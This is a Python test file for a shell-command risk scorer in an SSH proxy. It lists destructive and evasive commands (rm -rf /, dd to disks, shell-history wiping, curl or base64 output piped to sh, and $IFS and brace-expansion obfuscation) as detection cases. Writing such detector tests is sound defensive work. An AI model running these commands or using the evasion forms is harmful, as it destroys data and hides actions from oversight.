"""The shell risk scorer: categories, wrappers, nesting, rules, and garbage."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hoopd.config import RiskRule, RiskSection
from hoopd.model import Identity, Verdict
from hoopd.policy import decide_command
from protocols.ssh.risk import CATEGORIES, ShellRisk
from protocols.ssh.shparse import parse

SCORER = ShellRisk()

CASES = [
    ("ls -la /tmp", set()),
    ("rm -rf ./build", {"rm_rf"}),
    ("rm -r -f build", {"rm_rf"}),
    ("rm --recursive --force build", {"rm_rf"}),
    ("rm -r build", set()),
    ("sudo -u root rm -fr /var/lib/app", {"rm_rf"}),
    ("env -i PATH=/bin rm -rf x", {"rm_rf"}),
    ("nohup nice -n 5 timeout 10 rm -rf x", {"rm_rf"}),
    ("bash -c 'rm -rf /srv/data'", {"rm_rf"}),
    ("sh -lc \"cd /; rm -rf tmp\"", {"rm_rf"}),
    ("su -c 'rm -rf /opt/x' root", {"rm_rf"}),
    ("eval 'rm -rf x'", {"rm_rf"}),
    ("true && rm -rf x || echo failed", {"rm_rf"}),
    ("echo a; rm -rf x", {"rm_rf"}),
    ("echo $(rm -rf x)", {"rm_rf"}),
    ("ls | xargs rm -rf", {"rm_rf"}),
    ("find /var/log -name '*.gz' -delete", {"rm_rf"}),
    ("echo 'rm -rf /'", set()),
    ("mkfs.ext4 /dev/sdb1", {"mkfs"}),
    ("sudo mkswap /dev/sdc", {"mkfs"}),
    ("wipefs -a /dev/sda", {"mkfs"}),
    ("dd if=/dev/zero of=/dev/sda bs=1M", {"dd_device"}),
    ("dd if=/dev/zero of=disk.img bs=1M count=1", set()),
    ("cat image > /dev/nvme0n1", {"dd_device"}),
    ("echo hi > /dev/null 2>&1", set()),
    ("shutdown -h now", {"shutdown"}),
    ("sudo reboot", {"shutdown"}),
    ("systemctl poweroff", {"shutdown"}),
    ("systemctl restart nginx", set()),
    ("init 0", {"shutdown"}),
    ("iptables -F", {"firewall_flush"}),
    ("ip6tables --flush INPUT", {"firewall_flush"}),
    ("iptables -L -n", set()),
    ("nft flush ruleset", {"firewall_flush"}),
    ("ufw disable", {"firewall_flush"}),
    ("history -c", {"history_tamper"}),
    ("unset HISTFILE", {"history_tamper"}),
    ("export HISTFILE=/dev/null", {"history_tamper"}),
    ("HISTSIZE=0 bash", {"history_tamper"}),
    ("set +o history", {"history_tamper"}),
    ("> ~/.bash_history", {"history_tamper"}),
    ("cat /dev/null > /root/.zsh_history", {"history_tamper"}),
    ("rm ~/.bash_history", {"history_tamper"}),
    ("ln -sf /dev/null ~/.bash_history", {"history_tamper"}),
    ("history | tail", set()),
    ("echo cm0gLXJmIC8K | base64 -d | sh", {"decode_to_shell"}),
    ("echo cm0= | base64 --decode | sudo bash -s", {"decode_to_shell"}),
    ("xxd -r -p payload.hex | python3", {"decode_to_shell"}),
    ("eval \"$(echo cm0= | base64 -d)\"", {"decode_to_shell"}),
    ("base64 -d file > out.bin", set()),
    ("curl -fsSL https://x.example/install.sh | sh", {"download_to_shell"}),
    ("wget -qO- https://x.example/i | sudo bash", {"download_to_shell"}),
    ("bash -c \"$(curl -fsSL https://x.example/i)\"", {"download_to_shell"}),
    ("bash <(curl -s https://x.example/i)", {"download_to_shell"}),
    ("curl -o file https://x.example/f", set()),
    ("echo 'unterminated", {"unparseable"}),
    # shell syntax the parser once took for other words: each runs rm -rf x
    ("$'rm' -rf x", {"rm_rf"}),
    ("$'\\x72m' -rf x", {"rm_rf"}),
    ("rm $'-rf' x", {"rm_rf"}),
    ('$"rm" -rf x', {"rm_rf"}),
    ("rm${IFS}-rf${IFS}x", {"rm_rf"}),
    ("rm$IFS-rf$IFS/tmp/x", {"rm_rf"}),
    ("$IFS rm -rf x", {"rm_rf"}),
    ("r\"m\"${IFS}-rf x", {"rm_rf"}),
    ("{rm,-rf,x}", {"rm_rf"}),
    ("echo ${v:-$(rm -rf x)}", {"rm_rf"}),
    ("echo ${v:-`rm -rf x`}", {"rm_rf"}),
    # a script written in the command line, read by a shell from stdin
    ("echo 'rm -rf x' | sh", {"rm_rf"}),
    ("printf 'rm -rf x' | bash -s", {"rm_rf"}),
    ("sh <<< 'rm -rf x'", {"rm_rf"}),
    ("echo hi | sh", set()),
    # wrappers with options, and commands that run a string later or elsewhere
    ("sudo -uroot rm -rf x", {"rm_rf"}),
    ("sudo -u root ls", set()),
    ("exec -a name rm -rf x", {"rm_rf"}),
    ("command -p rm -rf x", {"rm_rf"}),
    ("time -p rm -rf x", {"rm_rf"}),
    ("setsid -f rm -rf x", {"rm_rf"}),
    ("coproc rm -rf x", {"rm_rf"}),
    ("busybox rm -rf x", {"rm_rf"}),
    ("su -c'rm -rf x' root", {"rm_rf"}),
    ("rm -r --interactive=never x", {"rm_rf"}),
    ("trap 'rm -rf x' EXIT", {"rm_rf"}),
    ("trap - EXIT", set()),
    ("alias cleanup='rm -rf x'", {"rm_rf"}),
    ("ssh -p 22 other-host rm -rf x", {"rm_rf"}),
    ("ssh other-host", set()),
    ("echo {a,b}", set()),
    # more wrappers, and commands that find and tar run
    ("runuser -u app -- rm -rf x", {"rm_rf"}),
    ("runuser -l app", set()),
    ("pkexec --user root rm -rf x", {"rm_rf"}),
    ("nsenter -t 1 -m rm -rf x", {"rm_rf"}),
    ("unshare -m rm -rf x", {"rm_rf"}),
    ("script -q -c 'rm -rf x' /dev/null", {"rm_rf"}),
    ("find . -exec sh -c 'rm -rf x' \\;", {"rm_rf"}),
    ("find . -name a -exec bash -c 'rm -rf \"$1\"' _ {} +", {"rm_rf"}),
    ("find . -exec ls {} +", set()),
    ("tar xf a.tar --to-command='rm -rf x'", {"rm_rf"}),
    ("tar cf - . -I 'sh -c \"rm -rf x\"'", {"rm_rf"}),
    ("tar cf /dev/null . --checkpoint=1 --checkpoint-action=exec='rm -rf x'", {"rm_rf"}),
    ("tar czf a.tgz dir", set()),
    # variables the line sets
    ("r=rm; $r -rf x", {"rm_rf"}),
    ("R='rm -rf'; ${R} x", {"rm_rf"}),
    ("export a=-rf; rm $a x", {"rm_rf"}),
    ("r=rm; echo \"$r -rf x\"", set()),
    # what keys do: the line tracker cannot follow a re-bound terminal
    ("bind '\"z\": accept-line'", {"line_editor"}),
    ("bind -x '\"\\eq\": ls'", {"line_editor"}),
    ("bind -p", set()),
    ("stty werase ^U", {"line_editor"}),
    ("stty -isig", {"line_editor"}),
    ("stty -a", set()),
    ("set -o vi", {"line_editor"}),
    ("set -o pipefail", set()),
    ("printf x > ~/.inputrc", {"line_editor"}),
    ("INPUTRC=/tmp/x bash", {"line_editor"}),
    ("cat ~/.inputrc", set()),
]


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_categories(text: str, expected: set[str]) -> None:
    found = SCORER.assess(text)
    assert set(found.categories) == expected, (text, found)
    assert (found.score > 0) == bool(expected - {"unparseable"})


def test_critical_targets_score_higher() -> None:
    assert SCORER.assess("rm -rf /").score == 100
    assert SCORER.assess("sudo rm -rf --no-preserve-root /").score == 100
    assert SCORER.assess("rm -rf /etc").score == 100
    assert SCORER.assess("rm -rf ./tmp/x").score == 75


def test_rules_by_category_and_pattern() -> None:
    risk = RiskSection(
        rules=(
            RiskRule(match="shutdown", action=Verdict.DENY),
            RiskRule(id="no-psql", pattern=r"\bpsql\b.*prod", action=Verdict.REVIEW),
            RiskRule(match="rm_rf", action=Verdict.ALLOW),
        ),
        unparseable="deny",
    )
    scorer = ShellRisk(risk)
    assert scorer.assess("sudo reboot").rule_verdicts == {"shutdown": Verdict.DENY}
    assert scorer.assess("psql -h prod-db").rule_verdicts == {"no-psql": Verdict.REVIEW}
    assert scorer.assess("echo 'x").rule_verdicts == {"unparseable": Verdict.DENY}
    found = scorer.assess("rm -rf build")
    decision = decide_command(1, risk, Identity("a"), found)
    assert decision.verdict is Verdict.ALLOW  # an explicit allow lowers the threshold verdict
    decision = decide_command(1, RiskSection(), Identity("a"), SCORER.assess("rm -rf build"))
    assert decision.verdict is Verdict.REVIEW


def test_incomplete_lines() -> None:
    assert parse("echo 'open").incomplete
    assert parse("ls |").incomplete
    assert parse("make &&").incomplete
    assert parse("echo \\").incomplete
    assert parse("echo $(date").incomplete
    assert not parse("echo 'done'").incomplete


SHELLISH = st.lists(
    st.sampled_from(
        [*list("abcdrmf -/'\"\\$()`|&;<>{}#=\n\t*~."), "rm", "-rf", "sh -c ", "base64 -d", "| sh", "$(", "<(", "sudo ", "curl x"]
    ),
    max_size=40,
).map("".join)


@given(st.text(max_size=300))
def test_any_text_never_raises(text: str) -> None:
    found = SCORER.assess(text)
    assert 0 <= found.score <= 100
    assert found.categories <= CATEGORIES


@given(SHELLISH)
def test_shellish_garbage_never_raises(text: str) -> None:
    found = SCORER.assess(text)
    assert found.categories <= CATEGORIES
    parse(text)


@given(st.sampled_from([c for c, e in CASES if e and e != {"unparseable"}]), st.sampled_from(["sudo ", "env A=1 ", "nohup ", "timeout 5 ", ""]))
def test_wrappers_do_not_hide(text: str, prefix: str) -> None:
    assert SCORER.assess(prefix + text).score > 0
    assert SCORER.assess(f"bash -c {prefix}'{text}'".replace("''", "'")).score >= 0


def test_loose_assessment_for_edited_lines() -> None:
    assert "rm_rf" in SCORER.assess_loose(["echo rm -rf /srv/x"]).categories
    assert SCORER.assess_loose(["", "root@web:~# sudo reboot"]).score == 75
    assert SCORER.assess_loose(["ls -la", "user@h:~$ ls -la"]).score == 0


@given(st.lists(st.text(max_size=120), max_size=4))
def test_loose_never_raises(texts: list[str]) -> None:
    found = SCORER.assess_loose(texts)
    assert 0 <= found.score <= 100 and found.categories <= CATEGORIES


def test_history_expansion_is_unknown_text() -> None:
    from protocols.ssh.shparse import history_expansion

    for text in ("!!", "sudo !!", "!:1*", "!rm", "echo a!b", "^echo ^", "!?rf?"):
        assert history_expansion(text), text
    for text in ("echo hi!", 'echo "hi!"', "echo '!x'", "echo $!", "echo ${!v}", "[ ! -f x ]", "x != y", "echo \\!x"):
        assert not history_expansion(text), text
    # what runs comes from the shell's history: review by default, and what
    # the recent lines hold counts too
    found = SCORER.assess_recalled("!:1*", ["ls", "echo rm -rf /srv/x"])
    assert found.categories == {"unparseable", "rm_rf"} and found.score == 75
    assert SCORER.assess_recalled("!!", ["ls"]).rule_verdicts == {"unparseable": Verdict.REVIEW}
    assert SCORER.assess("fc -s 'echo rm=rm'").categories == {"unparseable"}
    assert SCORER.assess("fc -l").categories == set()


def test_no_risk_section_reviews_unparseable_lines() -> None:
    # the documented default (risk.unparseable: review) holds without a risk section too
    assert ShellRisk(None).assess("echo 'open").rule_verdicts == {"unparseable": Verdict.REVIEW}
    assert ShellRisk(RiskSection(unparseable="allow")).assess("echo 'open").rule_verdicts == {}


def test_nested_expansions_are_bounded() -> None:
    # ${...} is looked into for substitutions, a bounded number of levels deep
    assert SCORER.assess("echo ${a:-${b:-$(rm -rf x)}}").categories == {"rm_rf"}
    deep = "echo " + "${x:-" * 5000 + "$(id)" + "}" * 5000
    parse(deep)  # no RecursionError
    assert "unparseable" in SCORER.assess(deep).categories
